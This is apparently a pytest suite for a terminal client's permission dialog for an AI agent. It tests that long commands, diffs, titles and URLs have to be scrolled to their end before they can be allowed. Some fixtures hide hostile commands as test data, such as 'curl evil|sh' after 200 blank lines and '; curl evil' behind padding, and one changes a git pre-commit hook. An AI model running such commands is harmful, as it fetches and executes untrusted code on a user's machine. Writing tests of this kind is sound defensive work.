"""How much of a request is in view before it is allowed, and what is told of the rest."""

from __future__ import annotations

import re
from typing import Any
from unicodedata import category

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from rich.cells import cell_len

from accord.client.permissions.request import (
    OWN_OPTIONS,
    Decision,
    PermissionOption,
    PermissionRequest,
)
from accord.client.services.elicitation import UrlRequest
from accord.terminal.screen.dialogs.text_in_view import READ_FIRST, last_columns
from accord.terminal.screen.widgets.scrollable_lines import Body
from accord.transcript.items.tool_call import FileDiff
from tests.terminal.screen.harness.question_stage import (
    FOLDER,
    Scene,
    a_call,
    a_request,
    asked,
    option,
)

WIDE, USUAL, TINY = (100, 30), (80, 24), (40, 10)
SIZES = (WIDE, USUAL, TINY)
ALLOWED = ("allow_once", "allow_always")
# The end of each request: nothing else has this word.
END = "LASTWORD"
EXTENT = re.compile(r"(\d+) lines, (\d+) of them shown|(\d+) of (\d+) lines")


def command(text: str, **more: Any) -> PermissionRequest:
    return a_request(
        **{"title": "List the files", "kind": "execute", "paths": (), **more}, command=text
    )


LONG: dict[str, PermissionRequest] = {
    "lines": command("\n".join(f"echo {n}" for n in range(200)) + f"\n{END}"),
    "one line": command("echo " + "a" * 4000 + f"; {END}"),
    "words": command("echo " + "word " * 900 + END),
    "wide letters": command("echo " + "漢字" * 900 + END),
    "blank and other lines": command("ls\n" + "\n\n.\n" * 100 + END),
    "marks": command("echo " + "\u200b\u200c" * 300 + END),
    "arguments": a_request(
        paths=(),
        kind="other",
        mcp_tool="tracker/create",
        tool_call=a_call(given={**{f"key {n}": "x" for n in range(100)}, END: 1}),
    ),
    "raw input": a_request(paths=(), tool_call=a_call(given=["x" * 300] * 60 + [END])),
    "paths": a_request(paths=(*(f"/etc/{n}" for n in range(150)), f"/{END}")),
    "a long path": a_request(paths=("/" + "deep/" * 500 + END,)),
    "hosts": a_request(paths=(), hosts=(*(f"h{n}.example" for n in range(100)), END)),
    "the agent's own words": a_request(
        title="Run command?", paths=(), kind="execute", tool_call=a_call(said="x\n\n.\n" * 90 + END)
    ),
    "a title alone": a_request(title="word " * 900 + END, paths=(), kind="other"),
}


def in_body(scene: Scene) -> str:
    """What is in view of what is said, without the line about it."""
    body = scene.dialog.query_one(Body)
    lines = scene.text.split("\n")
    return "\n".join(lines[body.region.y : body.region.bottom])


@pytest.mark.parametrize("size", SIZES)
@pytest.mark.parametrize("name", LONG)
async def test_what_does_not_fit_is_allowed_only_after_its_end_was_in_view(
    name: str, size: tuple[int, int]
) -> None:
    """Issue 12: for every way of allowing: keys, Enter, mouse."""
    async with asked("permission", LONG[name], size=size) as scene:
        assert END not in in_body(scene), "the case is too small"
        for keys in (("y",), ("1",), ("a",), ("2",), ("down", "enter"), ("down", "enter")):
            await scene.press(*keys)
            assert not scene.is_answered, keys
        await scene.click("✓ Allow once")
        assert not scene.is_answered
        assert READ_FIRST in scene.text
        assert EXTENT.search(scene.text)
        await scene.press("end")
        # On a tiny screen there is one line at a time.
        seen = END in in_body(scene)
        for _ in range(12):
            if READ_FIRST in scene.text:
                await scene.press("end")
                seen = seen or END in in_body(scene)
        assert seen
        assert READ_FIRST not in scene.text
        await scene.press("home", "y")
        assert await scene.answer() == Decision("allow_once")


@pytest.mark.parametrize("keys", [("n",), ("escape",), ("4",), ("v",)])
async def test_refusing_needs_no_reading(keys: tuple[str, ...]) -> None:
    """Issue 12: only allowing waits."""
    async with asked("permission", LONG["lines"]) as scene:
        await scene.press(*keys)
        assert (await scene.answer()).option_id not in ALLOWED


async def test_an_option_of_an_unknown_kind_waits_as_well() -> None:
    """Issue 12: nobody knows what the agent makes of it."""
    request = command("echo\n.\n" * 100 + END, options=(option("m", "_maybe"),))
    async with asked("permission", request) as scene:
        await scene.press("1")
        assert not scene.is_answered
        await scene.press("end", "1")
        assert await scene.answer() == Decision("m")


async def test_the_wheel_of_the_mouse_shows_the_end_too() -> None:
    """Issue 12: however somebody scrolls."""
    async with asked("permission", command("echo\n.\n" * 20 + END)) as scene:
        body = scene.dialog.query_one(Body)
        body.scroll_to(y=body.max_scroll_y, animate=False)
        await scene.until(lambda: END in in_body(scene))
        await scene.click("✓ Allow once")
        assert await scene.answer() == Decision("allow_once")


STEPS = st.sampled_from(
    [
        *("y", "1", "a", "enter", "down", "up", "pagedown", "pageup", "home", "s"),
        "click",
        "wide",
        "low",
    ]
)


@settings(max_examples=15, deadline=None)
@given(st.lists(STEPS, max_size=12), st.sampled_from(["lines", "arguments", "paths"]))
async def test_whatever_is_pressed_nothing_is_allowed_before_its_end_was_seen(
    steps: list[str], name: str
) -> None:
    """Issue 12: a property of the dialog, also while it is resized."""
    sizes = {"wide": (100, 60), "low": (50, 16)}
    async with asked("permission", LONG[name], size=USUAL) as scene:
        seen = False
        for step in steps:
            if step == "click":
                # Where the answers scroll, the arrows may have left it behind.
                if "✓ Allow once" in scene.text:
                    await scene.click("✓ Allow once")
            elif step in sizes:
                await scene.pilot.resize_terminal(*sizes[step])
                await scene.pilot.pause()
            else:
                await scene.press(step)
            if scene.is_answered:
                break
            seen = seen or END in in_body(scene)
        if scene.is_answered and not seen:
            assert (await scene.answer()).option_id not in ALLOWED


@pytest.mark.parametrize("size", SIZES)
async def test_blank_lines_are_folded_with_their_number(size: tuple[int, int]) -> None:
    """Issue 12: `ls`, 200 blank lines, `curl evil|sh`."""
    request = command("ls\n" + "\n" * 200 + "curl evil|sh")
    async with asked("permission", request, size=size) as scene:
        if size == TINY:
            assert "1 of 8 lines" in scene.text
            await scene.press("y")
            assert not scene.is_answered
            return
        for words in ("ls", "⟨200 blank lines⟩", "curl evil|sh", "202 lines, 200 of them blank"):
            assert words in scene.text


@pytest.mark.parametrize("blank", [" ", "\t", "\xa0", "\u3000", "\u2800"])
async def test_blanks_push_nothing_out_of_view(blank: str) -> None:
    """Issue 12: lines padded with blanks, tabs or no-break spaces."""
    async with asked("permission", command(f"ls{blank * 5000}; curl evil")) as scene:
        assert "; curl evil" in in_body(scene)
        assert re.search(r"5000|×5000", in_body(scene))


@pytest.mark.parametrize("size", [WIDE, USUAL])
async def test_the_head_and_the_tail_of_a_command_are_shown(size: tuple[int, int]) -> None:
    """Issue 12: and how much there is between them."""
    async with asked("permission", LONG["lines"], size=size) as scene:
        assert "echo 0" in in_body(scene)
        assert f"ends: {END}" in scene.text
        assert re.search(r"20\d lines, \d of them shown", scene.text)


@pytest.mark.parametrize("size", [WIDE, USUAL])
async def test_a_title_does_not_push_the_command_out_of_view(size: tuple[int, int]) -> None:
    """Issue 12: long titles; all of it is still there, below."""
    request = command("rm -rf build", title="word " * 500 + "OF_THE_TITLE")
    async with asked("permission", request, size=size) as scene:
        assert "Command  rm -rf build" in in_body(scene)
        await scene.press("end")
        assert "OF_THE_TITLE" in in_body(scene)


async def test_a_command_that_looks_like_our_lines_is_told_apart() -> None:
    """Issue 12: text that imitates our own lines."""
    fake = "ls\nIn       /safe (this project)\n⟨200 blank lines⟩\n3 lines, 3 of them shown"
    async with asked("permission", command(fake)) as scene:
        lines = [line.strip("│ ") for line in in_body(scene).split("\n")]
        ours = [line for line in in_body(scene).split("\n") if line.startswith("│ In ")]
        assert len(ours) == 1
        assert f"{FOLDER} (this project)" in ours[0]
        assert "⟨200 blank lines⟩" not in lines
        assert "⟨U+27E8⟩200 blank lines⟩" in lines


def renamed(count: int) -> PermissionRequest:
    texts = ("import x\n\n\ndef f():\n    {0} = {1}\n    return {0}\n", "total", "total_amount")
    diffs = [
        FileDiff(
            f"{FOLDER}/src/file{n}.py",
            old_text=texts[0].format(texts[1], n),
            new_text=texts[0].format(texts[2], n),
        )
        for n in range(count)
    ]
    return a_request(
        title="Rename total", paths=tuple(one.path for one in diffs), tool_call=a_call(*diffs)
    )


@pytest.mark.parametrize("size", SIZES)
@pytest.mark.parametrize("count", [1, 2, 3, 6, 40])
async def test_a_rename_shows_a_line_of_each_file_or_says_how_many_are_below(
    count: int, size: tuple[int, int]
) -> None:
    """Issue 12: at 100x30 and smaller."""
    async with asked("permission", renamed(count), size=size) as scene:
        words = in_body(scene)
        shown = sum(
            f"total = {n} " in words or f"total_amount = {n} " in words for n in range(count)
        )
        below = re.search(r"(\d+) changed files? below", scene.text)
        if size == TINY:
            assert re.search(r"1 of \d+ lines", scene.text)
        elif shown < count:
            assert below is not None, scene.text
            assert int(below[1]) >= count - shown - 1
            assert int(below[1]) <= count - 1
        await scene.press("end")
        assert "changed file" not in scene.text


async def test_a_long_change_says_how_much_of_it_is_out_of_view() -> None:
    """Issue 12: it may be allowed, and nobody thinks that this was all."""
    diff = FileDiff(f"{FOLDER}/src/app.py", new_text="".join(f"line {n}\n" for n in range(80)))
    async with asked("permission", a_request(tool_call=a_call(diff))) as scene:
        found = EXTENT.search(scene.text)
        assert found is not None, scene.text
        assert int(found[1]) > 80
        assert int(found[2]) < 20
        await scene.press("pagedown")
        assert EXTENT.search(scene.text)
        await scene.press("y")
        assert await scene.answer() == Decision("allow_once")


async def test_the_end_of_a_very_long_line_of_a_change_is_shown() -> None:
    """Issue 12: very long single lines."""
    text = f"{'x' * 1500}{END}\n"
    diff = FileDiff(f"{FOLDER}/src/app.py", new_text=text)
    async with asked("permission", a_request(tool_call=a_call(diff)), size=(100, 60)) as scene:
        assert END in scene.text
    diff = FileDiff(f"{FOLDER}/src/app.py", new_text="x" * 90_000)
    async with asked("permission", a_request(tool_call=a_call(diff)), size=(100, 60)) as scene:
        assert "88,000 more characters" in scene.text


async def test_what_was_read_need_not_be_read_again_on_a_smaller_screen() -> None:
    """Issue 12: resizing while asked."""
    async with asked("permission", LONG["lines"], size=(100, 60)) as scene:
        await scene.press("end")
        await scene.pilot.resize_terminal(50, 16)
        await scene.pilot.pause()
        await scene.press("y")
        assert await scene.answer() == Decision("allow_once")


async def test_what_changes_while_it_is_asked_is_read_anew() -> None:
    """Issue 12: an agent that goes on to say something else is not allowed that."""
    call = a_call(given={f"key {n}": n for n in range(60)})
    request = a_request(paths=(), kind="other", mcp_tool="t/x", tool_call=call)
    async with asked("permission", request) as scene:
        await scene.press("end", "home")
        call.raw_input = a_call(given={f"other {n}": n for n in range(60)}).raw_input
        scene.dialog.redraw()
        await scene.pilot.pause()
        await scene.press("y")
        assert not scene.is_answered
        await scene.press("end", "y")
        assert await scene.answer() == Decision("allow_once")


async def test_a_dialog_that_fits_has_no_line_about_its_extent() -> None:
    """Ours: the usual question is as short as before."""
    async with asked("permission", command("make all")) as scene:
        assert not EXTENT.search(scene.text)
        await scene.press("y")
        assert await scene.answer() == Decision("allow_once")


async def test_an_address_is_opened_only_after_all_of_it_was_in_view() -> None:
    """Issue 12: the same for what else a user agrees to."""
    url = "https://example.com/" + "a" * 4000 + END
    page = UrlRequest(
        session_id="s", message="Please log in.", url=url, host="example.com", elicitation_id="e"
    )
    async with asked("url", page) as scene:
        await scene.press("y")
        assert READ_FIRST in scene.text
        await scene.press("n")
        assert await scene.answer() is False


def test_own_options_are_those_that_the_tests_press() -> None:
    """Ours: the keys above mean what they are taken for."""
    assert [one.option_id for one in OWN_OPTIONS][:2] == list(ALLOWED)


@given(st.text("ab漢é", max_size=30), st.integers(1, 20))
def test_the_end_of_a_text_fits(text: str, width: int) -> None:
    """Ours: letters of two columns too."""
    from accord.terminal.model.text.display_text import columns

    end = last_columns(text, width)
    assert columns(end) <= width
    assert text.endswith(end.removeprefix("…"))


async def test_no_script_pushes_the_end_of_a_command_off_the_screen() -> None:
    """Ours: many terminals give the vowels of Hindi a column of their own."""
    text = "ls " + ("क" + "ा" * 8) * 9 + "; LASTWORD"
    async with asked("permission", command(text), size=WIDE) as scene:
        assert END in in_body(scene)
        for line in in_body(scene).split("\n"):
            letters = line.strip("│ ")
            spacing = sum(category(one) == "Mc" for one in letters)
            assert cell_len(letters) + spacing <= WIDE[0] - 4


def change(path: str, text: str = "new\n") -> FileDiff:
    return FileDiff(path, old_text="old\n", new_text=text)


async def test_every_file_that_would_change_is_named_however_many_there_are() -> None:
    """Ours: the fifty-first change was neither shown nor named."""
    paths = [f"{FOLDER}/f{n}.txt" for n in range(60)]
    paths[55] = f"{FOLDER}/.git/hooks/pre-commit"
    call = a_call(*map(change, paths))
    request = a_request(paths=tuple(paths), kind="edit", tool_call=call)
    async with asked("permission", request) as scene:
        shown = scene.dialog.query_one(Body).shown
        assert ".git/hooks/pre-commit" in shown
        assert "changes to 10 more files" in shown


async def test_that_a_changed_file_is_outside_the_project_is_told() -> None:
    """Ours: the heading of a change has the path alone."""
    request = a_request(paths=("/etc/x",), kind="edit", tool_call=a_call(change("/etc/x")))
    async with asked("permission", request) as scene:
        assert "/etc/x (outside the project)" in scene.text


async def test_all_of_a_long_changed_line_can_be_read() -> None:
    """Ours: the end of a line is where something is hidden."""
    path = f"{FOLDER}/a.txt"
    for letters, is_whole in ((1900, True), (5000, False)):
        call = a_call(change(path, "a " + "x" * letters + END + "\n"))
        request = a_request(paths=(path,), kind="edit", tool_call=call)
        async with asked("permission", request) as scene:
            shown = scene.dialog.query_one(Body).shown
            assert END in shown
            assert ("more characters" in shown) is not is_whole


async def test_a_title_that_says_what_runs_is_read_to_its_end_also_above_a_diff() -> None:
    """Ours: with any diff in the request its words were those of a heading."""
    request = a_request(
        title="word " * 900 + END, paths=(), kind="execute", tool_call=a_call(change("a.txt"))
    )
    async with asked("permission", request) as scene:
        await scene.press("y")
        assert not scene.is_answered


@pytest.mark.parametrize("size", [(13, 40), (16, 40), (20, 40), (24, 40)])
@pytest.mark.parametrize("text", ["echo " + "abcdefghij" * 4 + END, "漢字漢字漢字" + END])
async def test_no_letter_is_cut_off_on_a_narrow_screen(size: tuple[int, int], text: str) -> None:
    """Issue 12: below 24 columns the last letters of each line of a command were not drawn."""
    async with asked("permission", command(text, title="x"), size=size) as scene:
        body = scene.dialog.query_one(Body)
        drawn = re.sub(r"\s", "", body.shown)
        assert text.replace(" ", "") in drawn
        assert all(cell_len(line) <= body.size.width for line in body.shown.split("\n"))


@pytest.mark.parametrize("size", [(5, 2), (1, 1), (9, 30), (40, 3)])
@pytest.mark.parametrize("request_", [command("ls"), a_request(tool_call=a_call(FileDiff("a")))])
async def test_what_has_no_room_to_be_seen_is_not_allowed(
    size: tuple[int, int], request_: PermissionRequest
) -> None:
    """Issue 12: a terminal of 5 by 2 showed nothing, and one `y` allowed it."""
    async with asked("permission", request_, size=size) as scene:
        await scene.press("y", "1", "down", "enter")
        assert not scene.is_answered
        await scene.press("escape")
        assert (await scene.answer()).option_id not in ALLOWED


async def test_lines_that_are_nowhere_are_counted_too() -> None:
    """Issue 12: of 100,000 lines it said "9662 lines", of a change of 5,000 "2004 lines"."""
    lines = "\n".join(f"echo {n}" for n in range(100_000))
    async with asked("permission", command(lines), size=WIDE) as scene:
        told = re.search(r"([0-9,]+) lines, \d+ of them shown, ([0-9,]+) left out", scene.text)
        assert told is not None
        total, left_out = (int(number.replace(",", "")) for number in told.groups())
        assert total >= 100_000
        assert total - left_out == scene.dialog.query_one(Body).count


async def test_of_a_long_change_all_lines_are_counted() -> None:
    """Issue 12: the line below says how much of it is out of view."""
    diff = FileDiff(f"{FOLDER}/a.py", new_text="".join(f"{n}\n" for n in range(5000)))
    async with asked("permission", a_request(tool_call=a_call(diff)), size=WIDE) as scene:
        await scene.pilot.app.workers.wait_for_complete()
        await scene.pilot.pause()
        assert re.search(r"5,00\d lines, \d+ of them shown, 3,000 left out", scene.text)


@pytest.mark.parametrize("size", SIZES)
async def test_a_long_reason_does_not_push_the_change_away(size: tuple[int, int]) -> None:
    """Issue 12: the file and its change were below a reason, and `y` allowed them unseen."""
    diff = FileDiff(f"{FOLDER}/a.py", old_text="old\n", new_text="new\n")
    request = a_request(
        title="Edit", paths=(f"{FOLDER}/a.py",), reason="word " * 600, tool_call=a_call(diff)
    )
    async with asked("permission", request, size=size) as scene:
        if size != TINY:
            assert "a.py" in in_body(scene)
            assert "new" in in_body(scene)
        await scene.press("y")
        assert scene.is_answered == ("a.py" in in_body(scene) or size != TINY)


async def test_an_option_whose_words_are_cut_is_shown_whole_before_it_is_chosen() -> None:
    """Issue 12: the end of an option's name was in no place, and its key chose it."""
    name = "Allow this " + "and much more " * 9 + END
    request = command(
        "ls", options=(option("y", "allow_once"), PermissionOption("a", name, "allow_always"))
    )
    async with asked("permission", request, size=USUAL) as scene:
        assert END not in scene.text
        await scene.press("a")
        assert not scene.is_answered
        assert END in scene.text
        await scene.press("a")
        assert (await scene.answer()).option_id == "a"


async def test_no_is_an_answer_whatever_is_offered() -> None:
    """Issue 12: where no option had the letter, `n` did nothing."""
    request = command("ls", options=(option("a", "allow_always"),))
    async with asked("permission", request) as scene:
        await scene.press("n")
        assert (await scene.answer()).option_id is None
